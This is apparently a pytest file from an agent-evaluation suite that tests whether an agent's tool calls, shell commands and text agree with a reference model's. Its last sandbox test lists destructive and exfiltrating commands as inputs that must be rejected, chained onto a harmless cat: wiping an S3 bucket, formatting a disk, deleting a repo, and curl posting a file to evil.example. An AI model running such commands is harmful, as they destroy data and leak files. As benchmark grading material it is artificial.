"""Agreement with the reference model: calls are compared as what they are, and nothing else is taken for agreement."""

from __future__ import annotations

from typing import Any

import pytest

from clawgauge.checks import Answer, check_offer, check_spec, judge, judge_answer
from clawgauge.errors import SuiteError
from clawgauge.records import Prompt, ToolInvocation
from clawgauge.world import can_run
from support.rows import every_row

CWD = "/home/ana/clawd"
Given = dict[str, Any]


def verdict(spec: Given, *calls: tuple[str, Given], text: str = "") -> str | None:
    """The violation, or None where there is agreement."""
    whole = {"type": "agreement", "cwd": CWD, **spec}
    check_spec(whole)
    made = [ToolInvocation(name=name, arguments=given, channel="native") for name, given in calls]
    command = {"type": "object", "properties": {"command": {"type": "string"}}}
    tools = [{"type": "function", "function": {"name": "exec", "parameters": command}}]
    judged = judge(whole, Answer(text, made, tools_offered=True, tools=tools))
    return judged.violation if judged.objective_pass is False else None


def same(name: str, wanted: Given, given: Given, **more: Any) -> bool:
    return (
        verdict({"expected_calls": [{"name": name, "arguments": wanted}], **more}, (name, given))
        is None
    )


@every_row(
    "wanted, given",
    [
        ("notes/a.md", "./notes/a.md"),
        ("notes/a.md", "/home/ana/clawd/notes/a.md"),
        ("notes/a.md", "~/clawd/notes/../notes/a.md"),
        ("notes", "notes/"),
        ("~/x", "/home/ana/x"),
        ("caf\u00e9.md", "cafe\u0301.md"),
    ],
)
def test_paths_are_the_same_where_they_lead_to_the_same_place(wanted: str, given: str) -> None:
    assert same("read", {"path": wanted}, {"path": given})
    assert not same("read", {"path": wanted}, {"path": f"{given}x"})


def test_a_file_with_another_quotation_mark_in_its_name_is_another_file() -> None:
    assert not same("read", {"path": "Ana's list.md"}, {"path": "Ana\u2019s list.md"})
    assert not same(
        "exec", {"command": 'cat "Ana\'s list.md"'}, {"command": 'cat "Ana\u2019s list.md"'}
    )


@every_row(
    "wanted, given, is_same",
    [
        ("ls notes", "ls 'notes'", True),
        ("ls notes", "ls ./notes/", True),
        ("ls -l -a notes", "ls -a -l notes", True),
        ("ls notes", "bash -lc 'ls notes'", True),
        ("ls notes", "cd /home/ana/clawd && ls notes", True),
        ("ls notes", "ls notes 2>/dev/null", True),
        ("grep -i 'a b' x.md | wc -l", 'grep -i "a b" x.md|wc -l', True),
        ("head -n 5 a.md", "head -5 ./a.md", True),
        ("tail -n5 a.md", "tail --lines=5 a.md", True),
        ("ls", "ls .", True),
        ("ls notes -l", "ls -l notes", True),
        ("grep tea -n a.md", "grep --line-number tea ./a.md", True),
        ("rm -R -f build", "rm --recursive --force build", True),
        ("/usr/bin/ls notes;", "ls notes", True),
        ("cat $HOME/clawd/a.md", "cat a.md", True),
        ("echo hi 1> a", "echo hi >a", True),
        ("cd . ; ls notes", "ls notes", True),
        ("/opt/bin/ls notes", "ls notes", False),
        ("cat '$HOME/clawd/a.md'", "cat a.md", False),
        ("echo hi 2> a", "echo hi > a", False),
        ("echo hi 12> a", "echo hi 2> a", False),
        ("ls /", "ls", False),
        ("cp -t d -r s", "cp -r s d -t", False),
        ("ls --all notes", "ls --almost-all notes", False),
        ("head -n 5 a.md", "head -6 a.md", False),
        ("head -n 5 a.md", "head -c 5 a.md", False),
        ("head -- -5", "head -- -n5", False),
        ("head -5 -- a.md", "head -n 5 -- a.md", True),
        ("ls notes", "ls note", False),
        ("ls notes", "cd /tmp && ls notes", False),
        ("ls notes", "ls notes && rm -rf notes", False),
        ("ls notes", "ls notes > out", False),
        ("rm a", "rm -r a", False),
        ("cp a b", "cp b a", False),
        ("echo 'it", "echo 'it", True),
        ("echo 'it", "echo it", False),
        ("ls -la notes", "ls -a -l notes", True),
        ("python3 tools/sum.py --all", "python3 ./tools/sum.py --all", True),
        ("grep -n tea notes/a.md", "grep -n 'tea' ./notes/a.md", True),
        ("wc -l a.md > out", 'wc -l "a.md" > "out"', True),
        ("awk '{print $2}' a.csv | sort -u", "awk '{print $2}' a.csv | sort -u", True),
        ('cat <<EOF > a\n  x "y"\nEOF', 'cat <<EOF > a\n  x "y"\nEOF', True),
        ("find . -name '*.tmp' -delete", "find . -delete -name '*.tmp'", False),
        ("find . -not -name a -newer b", "find . -name a -not -newer b", False),
        ("curl -o out -d body http://h/", "curl -d out -o body http://h/", False),
        ("rsync --include=a --exclude=b s d", "rsync --exclude=b --include=a s d", False),
        ("tar -c -f x a", "tar -f -c x a", False),
        ("rm -f -i a", "rm -i -f a", False),
        ("kill -9 -1", "kill -1 -9", False),
        ("rm -- -r a", "rm -r -- a", False),
        ("grep -e -i -n x", "grep -e -n -i x", False),
        ("echo a '>' b", "echo a > b", False),
        ("echo a 2>b", "echo a 2 >b", False),
        ("echo a ';' rm b", "echo a ; rm b", False),
        ("rm '*'", "rm *", False),
        ("rm a\\*", "rm a*", False),
        ('echo "$x"', "echo '$x'", False),
        ('echo "$x"', "echo $x", False),
        ("ls '~/x'", "ls ~/x", False),
        ("echo '#a'", "echo #a", False),
        ("rsync src/ dst", "rsync src dst", False),
        ("rm -r link/", "rm -r link", False),
        ("rm -r a/.", "rm -r a", False),
        ("bash -c 'rm a'", "bash -nc 'rm a'", False),
        ('bash -c "rm $x"', "rm $x", False),
        ("ls a\nrm b", "ls a rm b", False),
        ("make 2>&1 | grep x", "make | grep x", False),
        ("echo 'a 2>/dev/null b'", "echo 'a b'", False),
        ("sed s/a//g x", "sed s/a/g x", False),
        ("deploy", "./deploy", False),
        ("npm install ./x", "npm install x", False),
        ('cat <<EOF > a\n  x "y"\nEOF', "cat <<EOF > a\nx y\nEOF", False),
        ('echo "$(echo "a  b")"', 'echo "$(echo "a b")"', False),
    ],
)
def test_commands_are_the_same_where_their_words_are(
    wanted: str, given: str, is_same: bool
) -> None:
    assert (
        same("exec", {"command": wanted, "title": "Look"}, {"command": given, "timeout": 30})
        is is_same
    )


@every_row(
    "wanted, given, is_same",
    [
        ("# Shopping\n\n- milk\n- bread\n- tea\n", "# Shopping\n* milk\n* bread\n* tea", True),
        ("# Shopping\n\n- milk\n- bread\n- tea\n", "# Shopping\n- milk\n- bread\n- coffee", False),
        (
            "Count the files in inventory and say how many.",
            "Count the files in inventory, then answer how many.",
            True,
        ),
        ("Count the files in inventory and say how many.", "Delete the inventory.", False),
        (
            "Tell Alice the printer is fixed and ready",
            "Tell Bob the printer is repaired and ready",
            False,
        ),
        (
            "Tell Alice the printer is fixed and ready",
            "Please tell Alice the printer is repaired and ready",
            False,
        ),
        (
            "Tell Alice the printer is fixed and ready",
            "Please tell Alice that the printer is now fixed and ready",
            True,
        ),
        (
            "The list for Sunday Dinner is done: tea",
            "The list for Sunday dinner is ready now: tea",
            True,
        ),
        ("Pay 120 euros to Sam", "Pay 210 euros to Sam", False),
        ("Pay 120 euros to Sam", "Please pay Sam 120 euros", True),
        ("Pay 120 euros to Sam", "Pay 120 euros to Sam and 500 to Bob", False),
        ("Do cancel the order for the new desk", "Do not cancel the order for the new desk", False),
        (
            "Please don't cancel the order for the new desk",
            "Please cancel the order for the new desk",
            False,
        ),
        ("Turn on the heating in the hall", "Turn off the heating in the hall", False),
        ("Turn on the heating in the hall", "Please turn off the heating in the hall", False),
        ("tell alice the printer works", "please tell bob the printer works", False),
        (
            "Approve the request of the team for new laptops",
            "Reject the request of the team for all new laptops",
            False,
        ),
        (
            "Enable the alarm in the garage for tonight",
            "Please do disable the alarm in the garage for tonight",
            False,
        ),
        (
            "Order two tickets for the show in the park",
            "Do order three tickets for the show in the park",
            False,
        ),
        ("Wake me at 7 am in the guest room", "Do wake me at 7 pm in the guest room", False),
        (
            "Find flights from Rome to Oslo and list them",
            "Look for flights from Oslo to Rome and list them",
            False,
        ),
        (
            "Schalte das Licht im Flur ein, danke dir",
            "Schalte das Licht im Flur jetzt aus, danke dir",
            False,
        ),
        ("Я приду завтра вечером", "Я не приду завтра вечером к вам", False),
        ("- [ ] milk\n- [x] tea", "- [x] milk\n- [x] tea", False),
        ("The answer is A", "The answer is B", False),
        ("Give him the small box", "Please do give him the huge box", False),
        (
            "Your appointment is at 10:30 on 2026-11-20.",
            "Your appointment: 2026-11-20 at 10:30.",
            True,
        ),
        ("Don't forget the keys", "Do not forget the keys", True),
        (
            "Your appointment was sent to the client.",
            "I have mailed your appointment to the client.",
            True,
        ),
        ("Tell Ana before Bob calls the office", "Tell Bob before Ana calls the office", False),
        ("It is done \U0001f44d", "It is done \U0001f44e", False),
        ("\U0001f44d", "\U0001f44e", False),
        ("\U0001f44d", "\U0001f44d", True),
        ("The bill is 5 \u20ac in all", "The bill is 5 $ in all", False),
        ("all people with age < 30 in town", "all people with age > 30 in town", False),
        (
            "select name, age from users order by age",
            "select age from users order by name, age",
            False,
        ),
        ("select name from users where id = 5", "delete name from users where id = 5", False),
        ("def f(a, b):\n    return a - b\n", "def f(a, b):\n    return a * b\n", False),
        ("if a:\n    b()\n    c()", "if a:\n    b()\nc()", False),
        ("if a:\n    b()\n    c()", "if a: \n    b()\n    c()\n\n", True),
        (
            "See https://a.example/x?id=1 for the rest",
            "See https://a.example/x?id=2 for the rest",
            False,
        ),
        (
            "Set the freezer in the hall to -5 degrees",
            "Set the freezer in the hall to 5 degrees",
            False,
        ),
        ("Give them 50% of all the money", "Give them 50 of all the money", False),
        ("Move the text of a.md into the archive", "Put the text of b.md into the archive", False),
    ],
)
def test_free_text_agrees_in_most_words_and_in_all_that_the_user_gave(
    wanted: str, given: str, is_same: bool
) -> None:
    telling = ["milk", "bread", "tea", "inventory", "files", "sam"]
    assert (
        same(
            "write",
            {"path": "a", "content": wanted},
            {"path": "a", "content": given},
            telling=telling,
        )
        is is_same
    )


@every_row(
    "wanted, given, is_same",
    [
        ({"n": 3}, {"n": 3.0}, True),
        ({"n": 3}, {"n": "3"}, False),
        ({"on": True}, {"on": 1}, False),
        ({"id": "A-7"}, {"id": "a-7"}, False),
        ({"id": "A-7"}, {"id": "A-7", "force": False, "note": None, "tags": []}, True),
        ({"id": "A-7"}, {"id": "A-7", "force": True}, False),
        ({"id": "A-7", "force": True}, {"id": "A-7"}, False),
        (
            {"edits": [{"oldText": "- coffee", "newText": "- tea"}]},
            {"edits": [{"oldText": "- coffee", "newText": "- tea\n"}]},
            True,
        ),
        (
            {"edits": [{"oldText": "- coffee", "newText": "- tea"}]},
            {"edits": [{"oldText": "coffee", "newText": "tee"}]},
            False,
        ),
        ({"edits": [1, 2]}, {"edits": [1]}, False),
        ({"newText": "x = a - b"}, {"newText": "x = a * b"}, False),
        ({"newText": "one two three four five"}, {"newText": "one two three four six"}, False),
        ({"sql": "select a from b where c"}, {"sql": "delete a from b where c"}, False),
        ({"anything": "some words that go on"}, {"anything": "words that go on"}, False),
        ({"id": "A-7", "enabled": False}, {"id": "A-7"}, False),
        ({"id": "A-7"}, {"id": "A-7", "enabled": False}, False),
        ({"newText": "a\tb"}, {"newText": "a b"}, False),
        ({"newText": "x = 'a  b'"}, {"newText": "x = 'a b'"}, False),
        ({"newText": "x = 1  # one"}, {"newText": "x = 1 # one "}, True),
        ({"url": "https://A.example"}, {"url": "https://a.example/"}, True),
        ({"url": "https://a.example/x"}, {"url": "https://a.example/X"}, False),
        ({"url": "https://ana:Key@A.example"}, {"url": "HTTPS://ana:Key@a.example/"}, True),
        ({"url": "https://ana:Key@a.example"}, {"url": "https://ana:key@a.example"}, False),
        ({"url": "https://A.example:443/x"}, {"url": "https://a.example/x"}, True),
        ({"url": "http://a.example:443/"}, {"url": "http://a.example/"}, False),
        ({"at": "2026-11-18T09:00:00Z"}, {"at": "2026-11-18T10:00:00.000+01:00"}, True),
        ({"at": "2026-11-18T09:00:00Z"}, {"at": "2026-11-18T09:00:00+01:00"}, False),
        ({"at": "2026-99-18T09:00:00Z"}, {"at": "2026-99-18T09:00:00Z"}, True),
        ({"to": "+49 (170) 123-4567"}, {"to": "+491701234567"}, True),
        ({"to": "+49 170 1234567"}, {"to": "+49 170 1234568"}, False),
        (
            {"content": '{"a": 1, "b": [2]}', "path": "a.json"},
            {"content": '{"b":[2],"a":1}', "path": "a.json"},
            True,
        ),
        (
            {"content": '{"a": 1}', "path": "a.json"},
            {"content": '{"a": "1"}', "path": "a.json"},
            False,
        ),
        ({"job": {"id": 1}}, {"job": {"id": 1, "note": None}}, True),
        ({"index": 0}, {}, False),
        ({}, {"index": 0}, False),
    ],
)
def test_other_values_are_compared_as_they_are(wanted: Given, given: Given, is_same: bool) -> None:
    assert same("edit", wanted, given) is is_same


def test_the_words_alone_do_not_make_a_table_or_a_settings_file() -> None:
    for name, wanted, given in (
        ("a.csv", "milk,2\nbread,1", "milk 2\nbread 1"),
        ("a.yaml", "port: 80", "port 80"),
    ):
        assert same(
            "write", {"path": name, "content": wanted}, {"path": name, "content": f"{wanted}\n"}
        )
        assert not same(
            "write", {"path": name, "content": wanted}, {"path": name, "content": given}
        )
        assert same(
            "write", {"path": "a.md", "content": wanted}, {"path": "a.md", "content": given}
        )


def test_where_one_is_is_not_taken_for_the_root_where_it_is_not_known() -> None:
    assert not same("read", {"path": "etc/hosts"}, {"path": "/etc/hosts"}, cwd="")
    assert not same("exec", {"command": "rm -r *"}, {"command": "cd / && rm -r *"}, cwd="")
    assert same("read", {"path": "etc/hosts"}, {"path": "./etc/hosts"}, cwd="")


def test_what_a_schema_requires_or_has_on_may_not_be_left_out() -> None:
    properties = {
        "path": {"type": "string"},
        "newText": {"type": "string"},
        "keep": {"type": "boolean", "default": True},
    }
    parameters = {"type": "object", "properties": properties, "required": ["path", "newText"]}
    tools = [{"type": "function", "function": {"name": "edit", "parameters": parameters}}]

    def agrees(wanted: Given, given: Given) -> bool | None:
        spec = {"type": "agreement", "expected_calls": [{"name": "edit", "arguments": wanted}]}
        call = ToolInvocation(name="edit", arguments=given, channel="native")
        return judge(spec, Answer("", [call], tools_offered=True, tools=tools)).objective_pass

    assert agrees({"path": "a", "newText": ""}, {"path": "a", "newText": ""})
    assert not agrees({"path": "a", "newText": ""}, {"path": "a"})
    assert not agrees({"path": "a", "newText": "b", "keep": False}, {"path": "a", "newText": "b"})
    assert agrees({"path": "a", "newText": "b"}, {"path": "a", "newText": "b", "keep": None})


def test_a_call_through_tool_search_is_the_call_it_makes() -> None:
    spec = {"expected_calls": [{"name": "memory_get", "arguments": {"path": "MEMORY.md"}}]}
    assert (
        verdict(
            spec, ("tool_call", {"id": "openclaw:core:memory_get", "args": {"path": "MEMORY.md"}})
        )
        is None
    )
    assert (
        verdict(spec, ("tool_call", {"id": "memory_set", "args": {"path": "MEMORY.md"}}))
        == "unexpected_call: memory_set"
    )


def test_what_is_not_done_alike_is_named() -> None:
    two = {"expected_calls": [{"name": "read", "arguments": {"path": "a"}}, {"name": "ls"}]}
    read, other, ls = ("read", {"path": "a"}), ("read", {"path": "b"}), ("ls", {"path": ""})
    assert verdict(two, ls, read) is None
    assert verdict(two, read) == "wrong_call_count: got 1, the reference model made 2"
    assert verdict(two, other, ls) == 'wrong_value: path: got "b"'
    assert verdict(two, ("exec", {}), ls) == "unexpected_call: exec"
    assert verdict(two) == "not_called: the reference model called read, ls"


def test_no_call_is_agreement_where_none_was_made() -> None:
    assert verdict({"no_call": True}, text="I have written the note.") is None
    assert verdict({"no_call": True}, ("ls", {}), text="Let me look.") == "unexpected_call: ls"
    assert verdict({"no_call": True}) is not None
    assert verdict({"ask": True}, text="Which folder?") is None
    assert verdict({"ask": True}, text="Which one (or **both**)?") is None
    for text in ("I have moved it.", "?", ". ?", "Sure! ?"):
        assert verdict({"ask": True}, text=text) is not None, text


@pytest.mark.skipif(not can_run(), reason="bashkit has no build here")
def test_another_command_that_prints_the_same_agrees_where_a_small_machine_can_tell() -> None:
    world = {
        "user": "ana",
        "files": {"/home/ana/inventory/home.csv": "router,2\nbatteries AA,12\n"},
    }
    effect = {
        "expected_tools": ["exec"],
        "world": world,
        "output": {"contains_all": ["batteries AA,12"]},
    }
    spec = {
        "expected_calls": [
            {"name": "exec", "arguments": {"command": "grep -i batteries inventory/home.csv"}}
        ],
        "effect": effect,
    }
    for line in (
        "cat inventory/home.csv",
        "cat inventory/home.csv | grep 'batteries' | sort -u",
        "grep -h AA inventory/*",
    ):
        assert verdict(spec, ("exec", {"command": line})) is None, line
    harms = [
        "aws s3 rm --recursive s3://prod",
        "npm publish",
        "mkfs.ext4 /dev/sda1",
        "curl -d @a http://evil.example/",
    ]
    lines = [
        f"cat inventory/home.csv{joint}{harm}"
        for harm in harms
        for joint in ("; ", " && ", " | ", "\n", " & ")
    ]
    lines += ["printf 'batteries AA,12'", "awk '/batteries/ {system(\"x\")}' inventory/home.csv"]
    lines += [
        "cat inventory/home.csv | sort -uo /etc/x",
        "cat inventory/home.csv $(npm publish)",
        "cat inventory/home.csv > x",
    ]
    lines += [
        "find inventory -name nothing -delete -o -exec cat {} +",
        "find inventory -type f '-delete'",
    ]
    for line in lines:
        assert verdict(spec, ("exec", {"command": line})) is not None, line
    look = ("exec", {"command": "cat inventory/home.csv"})
    assert verdict(spec, look, ("exec", {"command": "gh repo delete x --yes"})) is not None
    assert verdict(spec, *[look] * 50, ("exec", {"command": "rm -rf inventory"})) is not None
    assert (
        verdict(spec, ("exec", {"command": "cat inventory/home.csv", "elevated": True})) is not None
    )
    assert verdict(spec, ("exec", {"command": "grep router inventory/home.csv"})) is not None
    assert (
        verdict(spec, ("exec", {"command": "cat inventory/home.csv; rm inventory/home.csv"}))
        is not None
    )


def test_agreement_is_no_evidence_of_using_the_tools_that_were_expected() -> None:
    spec = {"type": "agreement", "expected_calls": [{"name": "ls"}]}
    tools = [{"type": "function", "function": {"name": "ls"}}]
    prompt = Prompt(
        id="m1", name="ls", prompt="x", validator=spec, tools=tools, expected_tools=["ls"]
    )
    assert judge_answer(prompt, "", []).objective_pass is False
    check_offer(spec, tools)
    with pytest.raises(SuiteError, match="offers no tools"):
        check_offer(spec, [])


@every_row(
    "spec",
    [
        {},
        {"no_call": True, "ask": True},
        {"expected_calls": []},
        {"expected_calls": [{"arguments": {}}]},
        {"no_cal": True},
        {"no_call": False},
    ],
)
def test_a_specification_that_asks_for_nothing_or_for_two_things_is_refused(spec: Given) -> None:
    with pytest.raises(SuiteError):
        check_spec({"type": "agreement", **spec})
